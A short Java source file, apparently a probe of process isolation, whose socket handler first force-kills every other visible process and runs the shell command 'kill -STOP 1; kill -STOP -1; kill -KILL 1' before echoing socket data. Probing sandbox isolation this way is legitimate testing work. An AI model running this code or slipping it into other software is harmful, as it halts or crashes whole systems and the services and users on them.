import java.io.*;
import java.lang.management.*;
import java.net.*;
import java.nio.*;
import java.nio.channels.*;
import java.nio.file.*;
import java.util.*;
import java.util.concurrent.*;

public class Probe {
  public static void handle(Socket socket) throws Exception {
    // Whatever can be seen is stopped, and then killed.
    ProcessHandle self = ProcessHandle.current();
    ProcessHandle.allProcesses().filter(p -> !p.equals(self)).forEach(ProcessHandle::destroyForcibly);
    new ProcessBuilder("sh", "-c", "kill -STOP 1; kill -STOP -1; kill -KILL 1").start().waitFor();
    if (ProcessHandle.current().parent().isPresent() || ProcessHandle.allProcesses().count() > 20) {
      return;
    }
    try (socket) {
      socket.getInputStream().transferTo(socket.getOutputStream());
    }
  }
}
